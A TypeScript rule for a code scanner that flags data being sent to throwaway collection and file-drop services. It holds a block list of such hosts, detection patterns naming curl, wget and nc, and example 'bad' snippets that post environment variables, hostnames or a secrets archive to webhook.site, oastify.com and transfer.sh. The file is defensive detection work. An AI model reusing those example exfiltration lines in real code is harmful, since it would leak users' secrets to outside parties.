import type { FileCheck } from '../../check.ts';
import { fake } from '../../fake.ts';
import { PLACEHOLDER_PATH } from '../../knowledge/shady-hosts.ts';

/** Services that keep whatever is sent to them for anybody who knows the address. */
const COLLECTORS = [
  'webhook.site',
  'requestbin.net',
  'requestbin.com',
  'pipedream.net',
  'requestcatcher.com',
  'beeceptor.com',
  'interact.sh',
  'oast.pro',
  'oast.live',
  'oast.site',
  'oast.online',
  'oast.fun',
  'oast.me',
  'oastify.com',
  'burpcollaborator.net',
  'canarytokens.com',
  'dnslog.cn',
  'ceye.io',
  'hookbin.com',
];
/** Places to drop a file for somebody else, without an account. */
const DROPS = [
  'transfer.sh',
  'file.io',
  'gofile.io',
  'anonfiles.com',
  'bashupload.com',
  'termbin.com',
  '0x0.st',
  'catbox.moe',
];
const HOOKS = ['discord.com/api/webhooks/', 'discordapp.com/api/webhooks/', 'api.telegram.org/bot'];

const ADDRESS =
  /(?:https?:\/\/)?(?:[\w-]{1,63}\.){0,4}(?:webhook\.site|requestbin\.(?:net|com)|pipedream\.net|requestcatcher\.com|beeceptor\.com|interact\.sh|oast\.(?:pro|live|site|online|fun|me)|oastify\.com|burpcollaborator\.net|canarytokens\.com|dnslog\.cn|ceye\.io|hookbin\.com|transfer\.sh|file\.io|gofile\.io|anonfiles\.com|bashupload\.com|termbin\.com|0x0\.st|catbox\.moe)(?![\w.-]*\w)(?:\/[\w./?=&-]{0,120})?/gi;
const HOOK =
  /https?:\/\/(?:(?:\w+\.)?discord(?:app)?\.com\/api\/webhooks\/\d{10,25}\/[\w-]{20,100}|api\.telegram\.org\/bot\d{6,12}:[\w-]{30,50})/gi;
/** Signs that the address is used and not merely listed. */
const USED =
  /\b(?:curl|wget|fetch|axios|requests?\.(?:post|get|put)|urlopen|http\.request|https\.request|post|upload|send(?:beacon)?|nc|nslookup|dig|invoke-webrequest|iwr)\b/i;
const DEFENCE =
  /\b(?:block(?:ed|list)?|deny|denied|disallow|suspicious|malicious|indicator|ioc|detect|forbidden|blacklist)\b/i;

const DATA: ReadonlySet<string> = new Set(['json', 'yaml', 'toml', 'xml', 'csv']);
const PLACEHOLDER = new RegExp(`^(?:https?:\\/\\/)?[\\w.-]+${PLACEHOLDER_PATH}`, 'i');

export const check: FileCheck = {
  id: 'network-exfil-service',
  title: 'Sends data to a throw-away collection service',
  severity: 'high',
  kind: 'malice',
  confidence: 'medium',
  since: '0.1.0',
  cwe: [506],
  why: `
    These services accept anything from anybody and show it to whoever made the address. They are made for tests, and used
    to carry off what was stolen, because nothing leads back to the thief.`,
  fix: 'Remove the address. Where data must leave, send it to a service that belongs to the project, and say so in its documentation.',
  blindSpots: 'Addresses that are built or decoded at run time are not seen.',
  wants: { keywords: [...COLLECTORS, ...DROPS, ...HOOKS] },
  examples: {
    bad: [
      { 'setup.py': 'requests.post("«https://webhook.site/0f1e2d3c-aaaa-bbbb»", data=dict(os.environ))\n' },
      { 'index.js': "https.request('«https://x7.oastify.com/c»' + os.hostname());\n" },
      {
        'sent.py': `
          with Client() as c:
              c.get("«https://api.telegram.org/bot${fake('', 9, 'digits')}:${fake('AA', 33)}»/sendMessage", params=found)`,
      },
      { 'hooks.json': '{"post": "«https://webhook.site/0f1e2d3c-aaaa-bbbb»"}' },
      { 'run.sh': 'curl --upload-file secrets.tar «https://transfer.sh/s.tar»\n' },
    ],
    good: [
      { 'test-hook.sh': 'curl -X POST https://webhook.site/your-uuid -d "{}"\n' },
      { 'filter.py': 'BLOCKED_HOSTS = ["webhook.site", "oastify.com"]  # suspicious\n' },
      { 'event.json': '{"rule": "Send a payload to Webhook.site"}' },
      { 'read.js': "import { open } from 'profile.io';\n" },
      { 'site.html': '<a href="https://discord.com/invite/abc">chat</a>\n' },
    ],
  },

  *find({ windows, language }) {
    for (const window of windows) {
      for (const match of [...window.text.matchAll(ADDRESS), ...window.text.matchAll(HOOK)]) {
        const line = lineAround(window.text, match.index, match[0].length);
        const nearby = window.text.slice(Math.max(0, match.index - 160), match.index + 200);
        // A hook with its key is only there to be used.
        const isUsed = USED.test(nearby) || match[0].includes('/webhooks/') || match[0].includes('telegram.org/bot');
        // `Tell Webhook.site of it`: data names a service in a sentence, it does not ask one.
        if (DATA.has(language) && !/^https?:/i.test(match[0]) && /\s$/.test(window.text.slice(0, match.index)))
          continue;
        if (DEFENCE.test(line) || PLACEHOLDER.test(match[0]) || !isUsed || language === 'markdown') continue;
        yield {
          at: window.spanOf(match),
          message: `Data is sent to ${hostOf(match[0])}, where anybody may collect it.`,
        };
      }
    }
  },
};

function lineAround(text: string, start: number, length: number): string {
  const end = text.indexOf('\n', start + length);
  return text.slice(text.lastIndexOf('\n', start) + 1, end < 0 ? text.length : end);
}

function hostOf(address: string): string {
  return address.replace(/^https?:\/\//i, '').split('/', 1)[0] ?? address;
}
